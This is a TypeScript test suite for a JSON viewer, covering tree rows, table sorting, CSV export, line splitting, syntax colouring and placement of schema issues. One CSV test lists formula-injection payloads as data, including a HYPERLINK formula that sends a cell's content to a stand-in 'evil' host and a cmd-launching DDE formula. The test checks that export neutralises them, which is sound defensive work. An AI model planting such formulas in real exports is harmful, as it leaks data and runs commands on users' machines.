import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { growth, linear } from '../text/growth.testkit';
import { type RawLines, rawLines } from '../text/raw-lines';
import { colourJson, markRanges } from './colours';
import { parseJson } from './parse';
import { placeIssues } from './placed-issues';
import { cellText, sortedPlaces, tablesIn, tableToCsv } from './table';
import { type TreeRow, treeRows } from './tree-rows';

const allRows = (text: string, toggled: readonly number[], revealed: readonly string[] = [], depth?: number) => {
  const { rows, count } = treeRows(parseJson(text), { toggled, revealed, depth });
  return rows(0, count);
};

const drawn = ({ level, name, value }: TreeRow) =>
  `${'  '.repeat(level - 1)}${name === undefined ? '' : `${name}: `}${value}`;

const shown = (text: string, toggled: readonly number[] = [], revealed: readonly string[] = []) =>
  allRows(text, toggled, revealed).map(drawn);

describe('rows of a tree', () => {
  it('keep numbers and duplicate keys as received', () => {
    expect(shown('{"a": 1.50, "a": 12345678901234567890, "b": [true, null, "\\u0041"]}')).toEqual([
      '3 members',
      '  a: 1.50',
      '  a: 12345678901234567890',
      '  b: 3 items',
      '    0: true',
      '    1: null',
      '    2: "\\u0041"',
    ]);
  });

  it('open and close by hand', () => {
    const text = '{"a": {"b": {"c": 1}}}';
    expect(shown(text)).toHaveLength(3);
    expect(shown(text, [text.indexOf('{"c"')])).toHaveLength(4);
    expect(shown(text, [0])).toEqual(['1 member']);
  });

  it('open by themselves where something must be seen', () => {
    expect(shown('{"a": {"b": {"c": 1}}}', [], ['/a/b/c'])).toHaveLength(4);
    expect(shown('{"a/b": {"b": {"c": 1}}}', [], ['/a~1b/b/c'])).toHaveLength(4);
  });

  it('open a long string into its decoded lines', () => {
    const text = JSON.stringify(`first\n${'x'.repeat(150)}`);
    expect(shown(text)).toHaveLength(1);
    expect(shown(text, [0]).slice(1)).toEqual(['  first', `  ${'x'.repeat(100)}`, `  ${'x'.repeat(50)}`]);
  });

  it('have ids of their own', () => {
    const text = JSON.stringify({ a: 'x\n'.repeat(5), b: [[], {}, 'y\ny'] });
    const toggled = new Set([...text.matchAll(/"(?:x|y)/g)].map(({ index }) => index));
    const ids = allRows(text, [...toggled]).map(({ id }) => id);
    expect(ids.length).toBeGreaterThan(10);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it.each([
    [0, ['2 members']],
    [1, ['2 members', '  a: 1 member', '  d: "x"']],
    [3, ['2 members', '  a: 1 member', '    b: 1 item', '      0: 1', '  d: "x"']],
  ])('are folded to depth %i', (depth, expected) => {
    expect(allRows('{"a": {"b": [1]}, "d": "x"}', [], [], depth).map(drawn)).toEqual(expected);
  });

  it('name what holds them, and their pointers', () => {
    const rows = allRows('{"a/b": [{"c~d": 1}]}', [], ['/a~1b/0/c~0d']);
    expect(rows.map(({ pointer, parent }) => [pointer, parent])).toEqual([
      ['', -1],
      ['/a~1b', 0],
      ['/a~1b/0', 1],
      ['/a~1b/0/c~0d', 2],
    ]);
  });

  it('are the same in a window as in the whole', () => {
    const { rows, count } = treeRows(parseJson('{"a": [1, 2, 3], "b": {"c": null}}'), { toggled: [], revealed: [] });
    expect([...rows(0, 3), ...rows(3, count)]).toEqual(rows(0, count));
  });

  it('come from any JSON', () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        const rows = allRows(text, []);
        expect(rows[0]?.pointer).toBe('');
        for (const [at, { pointer, parent }] of rows.slice(1).entries()) {
          expect(parent).toBeLessThanOrEqual(at);
          expect(pointer.startsWith(`${rows[parent]?.pointer}/`)).toBe(true);
        }
      }),
    );
  });
});

describe('tables', () => {
  const text = '[{"n": 10, "s": "b"}, {"n": 9.50, "t": [1]}, {"s": "a10"}, {"s": "a9", "n": 100}]';
  const tree = parseJson(text);
  const [table] = tablesIn(tree);
  if (!table) throw new Error('No table was found.');
  const column = (name: string, direction: 'ascending' | 'descending') =>
    sortedPlaces(table, { column: name, direction })?.map((place) =>
      cellText(table.rows[place]?.members.find(({ key }) => key === name)?.value, text),
    );

  it('have a column for every key', () => expect(table.columns).toEqual(['n', 's', 't']));
  it.each([
    ['n', 'ascending', ['9.50', '10', '100', '']],
    ['n', 'descending', ['100', '10', '9.50', '']],
    ['s', 'ascending', ['a9', 'a10', 'b', '']],
  ] as const)('sort by %s, %s', (name, direction, expected) => expect(column(name, direction)).toEqual(expected));

  it.each([
    ['{"emails": [{"id": 1}], "next": null, "ids": [1]}', [['emails']]],
    ['[1, {"a": 1}]', []],
    ['[]', []],
    ['5', []],
    ['', []],
  ])('in %s', (source, paths) => expect(tablesIn(parseJson(source)).map(({ path }) => path)).toEqual(paths));
});

describe('a table as CSV', () => {
  const csv = (text: string) => {
    const tree = parseJson(text);
    const [table] = tablesIn(tree);
    return table && tableToCsv(table, text, sortedPlaces(table, undefined)).split('\r\n');
  };

  it('has whole cells, numbers as spelled, and every column', () => {
    const text = `[{"n": 12345678901234567890, "s": "a, \\"b\\""}, {"n": -1.50, "l": [1, {"x": null}]}, {"s": "${'y'.repeat(300)}"}]`;
    expect(csv(text)).toEqual([
      'n,s,l',
      '12345678901234567890,"a, ""b""",',
      '-1.50,,"[1, {""x"": null}]"',
      `,${'y'.repeat(300)},`,
      '',
    ]);
  });

  it.each(['=HYPERLINK("http://evil/?"&A1)', "+cmd|'/c calc'!A1", '@SUM(1)', '\t=1', '\r=1'])(
    'makes text of the formula %s',
    (formula) => {
      const [, cell = ''] = csv(JSON.stringify([{ a: formula }])) ?? [];
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
    },
  );
});

describe('raw text', () => {
  const linesOf = (text: string, maxLength: number): RawLines => {
    const last = [...rawLines(text, maxLength)].at(-1);
    if (!last) throw new Error('There is always one line.');
    return last;
  };

  it('is cut into lines that are together the text', () => {
    const lines = linesOf('ab\n\ncdefg\n', 2);
    expect(lines.lines(0, lines.count)).toEqual([
      [0, 2],
      [3, 3],
      [4, 6],
      [6, 8],
      [8, 9],
      [10, 10],
    ]);
  });

  it('law: has each line in any window, and tells the line of an offset', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', 'b', '\n'), maxLength: 400 }),
        fc.nat(300),
        (source, start) => {
          const { count, lines, lineAt } = linesOf(source, 3);
          const all = lines(0, count);
          expect(lines(start, start + 5)).toEqual(all.slice(start, start + 5));
          for (const [line, [from, to]] of all.entries()) {
            expect(to - from).toBeLessThanOrEqual(3);
            if (to > from) expect(lineAt(from)).toBe(line);
          }
          expect(all.map(([from, to]) => source.slice(from, to)).join('')).toBe(source.replaceAll('\n', ''));
        },
      ),
    );
  });

  it('is read in parts, of which each has the ones before', () => {
    const text = 'a\n'.repeat(50_000);
    const parts = [...rawLines(text, 3)];
    expect(parts.map(({ count }) => count)).toEqual([20_000, 40_000, 50_001]);
    expect(parts.map(({ lineAt }) => lineAt(60_000))).toEqual([undefined, 30_000, 30_000]);
    expect(parts[0]?.lines(19_999, 30_000)).toEqual([[39_998, 39_999]]);
  });

  it.each([
    ['{"a": "b", "n": -1.5e3}', ['{', '"a"', ':', ' ', '"b"', ', ', '"n"', ':', ' ', '-1.5e3', '}']],
    ['plain words', ['plain words']],
    ['["a\\"b, 1', ['[', '"a\\"b, 1']],
  ])('%s has colours', (source, parts) => expect(colourJson(source).map(({ text }) => text)).toEqual(parts));

  it('has them in time that grows with its length, also where a string is never closed', async () => {
    expect(await growth(2_000, (size) => colourJson(`"${'\\"'.repeat(size)}`))).toBeLessThan(linear);
  });

  it('loses nothing to its colours', () => {
    fc.assert(
      fc.property(fc.string(), (source) => {
        expect(
          colourJson(source)
            .map(({ text }) => text)
            .join(''),
        ).toBe(source);
      }),
    );
  });
});

describe('issues in a raw text', () => {
  const issue = (path: readonly (string | number)[]) => ({
    path,
    keyword: 'type',
    schemaPointer: '',
    message: 'Wrong.',
  });

  it.each([
    ['{"a": "b"}', [['a']], ['"b"']],
    ['{"a": {"b": [1]}}', [['a', 'b'], ['a']], ['{', '[']],
    ['{"a": 1}', [['missing']], ['{']],
    ['{"a": 1}', [], []],
  ])('%s with %o', (source, paths, expected) => {
    const placed = placeIssues(parseJson(source), paths.map(issue));
    const parts = markRanges(colourJson(source), placed);
    expect(parts.filter(({ isMarked }) => isMarked).map(({ text }) => text)).toEqual(expected);
    expect(parts.map(({ text }) => text).join('')).toBe(source);
  });

  it('have lines that count from 1', () => {
    expect(placeIssues(parseJson('{\n"a": 1}'), [issue(['a'])])).toMatchObject([{ line: 2, pointer: '/a' }]);
  });
});
